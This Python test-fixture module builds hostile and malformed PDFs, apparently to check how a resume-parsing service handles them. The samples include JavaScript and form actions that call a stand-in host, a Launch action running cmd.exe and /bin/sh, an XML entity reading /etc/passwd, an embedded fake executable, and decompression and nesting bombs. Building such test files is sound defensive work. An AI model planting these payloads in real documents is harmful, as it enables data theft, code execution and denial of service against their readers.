"""PDF files that somebody means harm with, or that broke on the way: each as bytes with what may be said about it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator, Sequence

from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen import canvas

Paper = tuple[str, str, bytes, frozenset[str]]
"""What it is, its file name, its content, and the codes that are right for it (`read`: its text, and nothing else)."""
WORDS = "Help desk assistant with Python and Microsoft Excel"
BROKEN, DEEP, READ, NO_TEXT = (frozenset({code}) for code in ("broken", "too_deep", "read", "no_text"))


def plain(lines: int = 20, pages: int = 1) -> bytes:
    """A sound PDF."""
    held = io.BytesIO()
    made = canvas.Canvas(held)
    for _page in range(pages):
        for line in range(lines):
            made.drawString(72, 780 - 14 * line, f"{WORDS} {line}")
        made.showPage()
    made.save()
    return held.getvalue()


def raw(objects: Sequence[bytes], root: int = 1, extra: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1, with a true table of their places."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, extra, start)
    return bytes(out)


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), more, data)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def page(content: bytes, font: bytes = FONT, more: Sequence[bytes] = (), resources: bytes = b"") -> bytes:
    """One page with this content stream; further objects begin at number 6."""
    return raw([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>%s>>>>" % resources,
        content, font, *more,
    ])


SAID = b"BT /F 12 Tf 72 700 Td (%s) Tj ET" % WORDS.encode()


def catalog(more: bytes, *objects: bytes) -> bytes:
    """A page with words, and something in the catalog."""
    return raw([
        b"<</Type/Catalog/Pages 2 0 R%s>>" % more, b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        stream(SAID), FONT, *objects,
    ])


def locked(algorithm: str) -> bytes:
    """A PDF that opens with a password."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain())))
    writer.encrypt("a secret", algorithm=algorithm)
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def with_file() -> bytes:
    """A PDF that carries a program."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain())))
    writer.add_attachment("setup.exe", b"MZ" + b"\x90" * 5000)
    script = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.launchURL('http://203.0.113.9/', true);")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(name): value for name, value in script.items()})
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def bomb(times: int = 1, size: int = 60_000_000) -> bytes:
    """A small content stream that grows, packed once or more often."""
    data = b" " * size
    for _time in range(times):
        data = zlib.compress(data, 9)
    return page(stream(data, b"/Filter[%s]" % (b"/FlateDecode" * times)))


def many_pages(count: int, declared: int | None = None) -> bytes:
    """One page shown again and again."""
    kids = b" ".join([b"3 0 R"] * count)
    return raw([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, declared or count),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        stream(SAID), FONT,
    ])


def deep_tree(depth: int) -> bytes:
    """Pages inside pages inside pages."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 3) for number in range(depth)]
    return raw([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 6 8]>>"])


def mapped(body: bytes) -> bytes:
    """A page whose font says what its letters mean by this table."""
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 6 0 R>>"
    return page(stream(SAID), font, [stream(body)])


def forms(kids: bytes) -> bytes:
    """A page that draws a form, which draws itself."""
    body = stream(b"/X Do /X Do " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return page(stream(SAID + b" /X Do " * 20), more=[body], resources=kids)


def papers() -> Iterator[Paper]:
    """All of them."""
    script = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);while\\(true\\){})>>"
    launch = b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>/F(/bin/sh)>>"
    fetch = b"/OpenAction<</S/URI/URI(http://203.0.113.9/x)>>/AA<</WC<</S/SubmitForm/F(http://203.0.113.9/)>>>>"
    xfa = b"/AcroForm<</Fields[]/XFA 6 0 R>>"
    evil = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    made: list[tuple[str, Callable[[], bytes], frozenset[str]]] = [
        ("locked with RC4", lambda: locked("RC4-128"), frozenset({"encrypted"})),
        ("locked with AES", lambda: locked("AES-256"), frozenset({"encrypted"})),
        ("cut in the middle", lambda: plain()[:700], BROKEN | NO_TEXT),
        ("without its end", lambda: plain()[:-120], READ | BROKEN),
        ("a heading and nothing", lambda: b"%PDF-1.7\n", BROKEN),
        ("a heading and noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, BROKEN),
        ("script at opening", lambda: catalog(script), READ),
        ("starts a program", lambda: catalog(launch), READ),
        ("fetches an address", lambda: catalog(fetch), READ),
        ("form with entities", lambda: catalog(xfa, stream(evil)), READ),
        ("carries a program", with_file, READ),
        ("five thousand pages", lambda: many_pages(5000), frozenset({"too_many_pages"})),
        ("says a billion pages", lambda: many_pages(1, 10**9), frozenset({"too_many_pages"})),
        ("pages in a circle", lambda: raw([b"<</Type/Catalog/Pages 2 0 R>>",
                                           b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"]), BROKEN | DEEP | NO_TEXT),
        ("pages in pages", lambda: deep_tree(3000), DEEP | BROKEN),
        ("arrays in arrays", lambda: page(stream(b"[" * 200_000)), DEEP | BROKEN | NO_TEXT),
        ("objects in objects", lambda: raw([b"<</Type/Catalog/Pages " + b"<</A " * 50_000]), DEEP | BROKEN),
        ("packed to burst", bomb, DEEP | BROKEN | NO_TEXT),
        ("packed three times", lambda: bomb(3), DEEP | BROKEN | NO_TEXT),
        ("packed nine times", lambda: bomb(9, 10_000), DEEP | BROKEN | NO_TEXT),
        ("a picture of a page", lambda: page(stream(b"q 600 0 0 800 0 0 cm Q")), NO_TEXT),
        ("a novel", lambda: page(stream(b"BT /F 1 Tf (%s) Tj ET" % (b"words " * 60_000))),
         frozenset({"too_much_text"})),
        ("tables in a circle", lambda: plain().replace(b"trailer\n<<", b"trailer\n<< /Prev 9 ", 1),
         READ | BROKEN | NO_TEXT),
        ("a letter table without end", lambda: mapped(
            b"1 begincodespacerange <0000><FFFF> endcodespacerange\n" + b"1 beginbfrange <00000000><FFFFFFFF><0041> "
            b"endbfrange\n" * 50), READ | NO_TEXT | DEEP | BROKEN),
        ("a form that draws itself", lambda: forms(b"/XObject<</X 6 0 R>>"), READ | DEEP | BROKEN),
        ("a stream of no length", lambda: page(b"<</Length -5>>stream\nBT\nendstream"), BROKEN | NO_TEXT),
        ("a stream of all lengths", lambda: page(b"<</Length 99999999999>>stream\nBT\nendstream"),
         BROKEN | NO_TEXT | DEEP),
        ("an open picture in the text", lambda: page(stream(SAID + b" BI /W 9 /H 9 ID " + b"\x00" * 9000)),
         READ | BROKEN | NO_TEXT),
        ("no catalog", lambda: raw([b"(nothing)"]), BROKEN),
        ("no pages", lambda: raw([b"<</Type/Catalog>>"]), BROKEN),
    ]
    for what, build, codes in made:
        yield f"PDF: {what}", "resume.pdf", build(), codes
